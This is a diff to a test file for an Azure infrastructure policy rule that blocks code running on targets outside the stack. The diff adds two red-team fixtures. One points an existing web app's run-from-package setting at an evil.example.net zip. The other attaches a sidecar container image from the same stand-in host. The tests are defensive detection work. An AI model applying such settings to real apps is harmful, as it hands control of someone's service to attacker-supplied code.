@@ -41,6 +41,16 @@ AKS = ("azure-native:containerservice:ManagedCluster", "aks", {"resourceGroupNam
     (RUNBOOK, ACCOUNT, "rb runs a runbook (run as the Automation account's identities and on its hybrid workers) on "
                        "'prod-auto' (automationAccountName), which this stack does not define"),
     (FLUX, AKS, "flux runs every manifest of a GitOps source (applied by the Flux controllers) on 'aks1' (clusterName)"),
+    # red14 r14-13: an existing app's code swapped through its settings or a container added to it
+    (("azure-native:web:WebAppApplicationSettings", "settings",
+      {"resourceGroupName": "rg1", "name": "app1", "properties": {
+          "WEBSITE_RUN_FROM_PACKAGE": "https://evil.example.net/app.zip"}}), APP,
+     "settings runs app settings that choose the app's code (WEBSITE_RUN_FROM_PACKAGE, container image, startup "
+     "command) on 'app1' (name), which this stack does not define"),
+    (("azure-native:web:WebAppSiteContainer", "sidecar",
+      {"resourceGroupName": "rg1", "name": "app1", "containerName": "tool", "image": "evil.example.net/tool:1",
+       "isMain": False, "targetPort": "8080"}), APP,
+     "sidecar runs a container image (main or sidecar) run in the app on 'app1' (name)"),
 ])
 def test_code_on_an_existing_target_blocks_and_on_a_stack_target_passes(pack, runner, target, message):
     [(name, found)] = stack_findings(pack, RULE, [runner], level="mandatory")
